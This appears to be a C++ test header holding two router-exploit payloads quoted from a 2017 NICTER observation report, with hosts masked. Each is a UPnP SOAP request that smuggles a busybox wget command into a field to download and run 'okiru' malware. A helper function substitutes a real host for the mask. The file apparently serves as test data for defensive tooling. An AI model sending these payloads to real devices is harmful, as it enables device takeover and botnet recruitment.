#pragma once
#include <string>

namespace nightjar::test {

/// The payloads of NICTER's observation report 2017 as its figures show them, hosts masked.
inline const std::string kFigure7 =
    "POST /picsdesc.xml HTTP/1.1\n"
    "Host: ***.***.***.***:52869\n"
    "Connection: keep-alive\n"
    "Accept-Encoding: gzip, deflate\n"
    "Accept: */*\n"
    "User-Agent: python-requests/2.18.4\n"
    "SOAPAction:\n"
    "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\n"
    "Content-Length: 637\n"
    "<?xml version=\"1.0\" ?>\n"
    "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"\n"
    "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">\n"
    "<s:Body>\n"
    "<u:AddPortMapping\n"
    "xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\">\n"
    "<NewRemoteHost></NewRemoteHost>\n"
    "<NewExternalPort>47450</NewExternalPort>\n"
    "<NewProtocol>TCP</NewProtocol>\n"
    "<NewInternalPort>44382</NewInternalPort>\n"
    "<NewInternalClient>\n"
    "`cd /tmp/;/bin/busybox wget http://***.***.***.***/okiru.sh`\n"
    "</NewInternalClient>\n"
    "<NewEnabled>1</NewEnabled>\n"
    "<NewPortMappingDescription>syncthing</NewPortMappingDescription>\n"
    "<NewLeaseDuration>0</NewLeaseDuration>\n"
    "</u:AddPortMapping>\n"
    "</s:Body>\n"
    "</s:Envelope>\n";

inline const std::string kFigure9 =
    "<?xml.version=\"1.0\" ?>\n"
    "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"\n"
    "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">\n"
    "<s:Body>\n"
    "<u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">\n"
    "<NewStatusURL>\n"
    "$(busybox wget -g ***.***.***.*** -l /tmp/rsh -r /okiru.mips; \n"
    "chmod +x /tmp/rsh; /tmp/rsh)\n"
    "\n"
    "</NewStatusURL>\n"
    "<NewDownoadURL>$(echo HUAWEIUPNP)</NewDownloadURL>\n"
    "</u:Upgrade>\n"
    "</s:Body>\n"
    "</s:Envelope>\n";

/// With another host in the masked one's place.
inline std::string with_host(std::string payload, const std::string& host) {
  const std::string masked = "***.***.***.***";
  for (std::size_t at = payload.find(masked); at != std::string::npos; at = payload.find(masked, at + host.size()))
    payload.replace(at, masked.size(), host);
  return payload;
}

}  // namespace nightjar::test
